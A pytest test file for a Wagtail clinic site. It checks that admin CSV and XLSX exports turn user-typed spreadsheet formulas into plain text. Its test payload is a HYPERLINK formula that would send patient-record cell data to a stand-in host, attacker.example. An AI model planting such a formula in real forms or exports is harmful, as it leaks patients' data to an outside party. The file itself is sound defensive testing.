"""Admin spreadsheet exports: no cell or heading of any CSV download runs as a formula, and XLSX still works.

A patient types '=HYPERLINK(...)' into a contact form, an editor into a page title; the moderator or reviewer who
downloads the list must get text, not a live formula. Exports are requested through the real admin, as the users
who may download them; the guard itself is checked on every export view Wagtail and the project define.
"""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormSubmission
from wagtail.log_actions import log
from wagtail.models import Page

from pages.review.report import REPORT_URL_NAME
from pages.security import neutralise_spreadsheet_formula
from tests.factories import ContactPageFactory, ProcedurePageFactory, role_user

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A2,"Open the patient record")'


# --- The rule ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # spreadsheets may skip leading spaces before they look for a formula
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("My back hurts = 7/10", "My back hurts = 7/10"),
        ("jane@example.org", "jane@example.org"),
        ("", ""),
    ],
)
def test_text_that_would_start_a_formula_is_kept_as_text(value, expected):
    assert neutralise_spreadsheet_formula(value) == expected


@pytest.mark.parametrize("value", [None, 7, -3, 2.5, datetime.date(2026, 3, 15), ["=1+1"]])
def test_values_that_are_not_text_pass_through(value):
    assert neutralise_spreadsheet_formula(value) == value


def test_neutralising_twice_changes_nothing_more():
    once = neutralise_spreadsheet_formula(FORMULA)
    assert neutralise_spreadsheet_formula(once) == once == "'" + FORMULA


# --- Every export view ---------------------------------------------------------------------------------------------


def export_view_classes():
    """Every SpreadsheetExportMixin view class loaded once the admin's URLs are (Wagtail's, contrib's and ours)."""
    reverse("wagtailadmin_home")
    found, pending = set(), [SpreadsheetExportMixin]
    while pending:
        for subclass in pending.pop().__subclasses__():
            if subclass not in found:
                found.add(subclass)
                pending.append(subclass)
    return sorted(found, key=lambda cls: f"{cls.__module__}.{cls.__qualname__}")


def test_the_guard_sees_the_exports_that_matter():
    names = {cls.__qualname__ for cls in export_view_classes()}
    assert {"SubmissionsListView", "LogEntriesView", "ClinicLogEntriesView", "ClinicalReviewReportView"} <= names


@pytest.mark.parametrize("view_class", export_view_classes(), ids=lambda cls: f"{cls.__module__}.{cls.__qualname__}")
def test_every_export_view_neutralises_csv_cells_and_headings(view_class):
    view = view_class.__new__(view_class)  # no request needed: the cell and heading rules read class attributes
    view.export_headings = {"field": FORMULA}

    assert view.preprocess_field_value("field", FORMULA, SpreadsheetExportMixin.FORMAT_CSV) == "'" + FORMULA
    assert view.preprocess_field_value("field", [FORMULA], SpreadsheetExportMixin.FORMAT_CSV) == "'" + FORMULA
    # XLSX data cells are kept as text by Wagtail's cell type, so they keep the text exactly.
    assert view.preprocess_field_value("field", FORMULA, SpreadsheetExportMixin.FORMAT_XLSX) == FORMULA
    # One heading serves both formats, and openpyxl would store '=...' as a formula.
    assert view.get_heading(Page.objects.none(), "field") == "'" + FORMULA


# --- Real downloads ------------------------------------------------------------------------------------------------


def download(client, url, export_format):
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [[(cell.value, cell.data_type) for cell in row] for row in workbook.active.iter_rows()]


def contact_submissions(client, clinic):
    page = ContactPageFactory(parent=clinic.home_page, title="Contact us")
    FormSubmission.objects.create(
        page=page, form_data={"your_name": "Jane Patient", "your_email": "jane@example.org", "message": FORMULA}
    )
    client.force_login(role_user(clinic, "moderators"))
    return reverse("wagtailforms:list_submissions", args=[page.pk])


def site_history(client, clinic):
    page = ProcedurePageFactory(parent=clinic.home_page, title=FORMULA, slug="formula-title")
    editor = role_user(clinic, "editors")
    log(page, "wagtail.edit", user=editor)
    client.force_login(editor)
    return reverse("wagtailadmin_reports:site_history")


def review_report(client, clinic):
    due = timezone.localdate() - datetime.timedelta(days=1)
    ProcedurePageFactory(
        parent=clinic.home_page,
        title=FORMULA,
        slug="formula-title",
        last_reviewed=due - datetime.timedelta(days=365),
        next_review_due=due,
    )
    client.force_login(role_user(clinic, "editors"))
    return reverse(REPORT_URL_NAME)


EXPORTS = {"contact submissions": contact_submissions, "site history": site_history, "review report": review_report}


@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS.keys())
def test_a_formula_typed_into_an_exported_field_is_text_in_the_csv(client, clinic_a, export):
    rows = download(client, export(client, clinic_a), "csv")

    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS.keys())
def test_the_xlsx_export_still_opens_with_the_formula_as_plain_text(client, clinic_a, export):
    rows = download(client, export(client, clinic_a), "xlsx")

    cells = [cell for row in rows[1:] for cell in row]
    assert (FORMULA, "s") in cells
    assert not [cell for row in rows for cell in row if cell[1] == "f"]
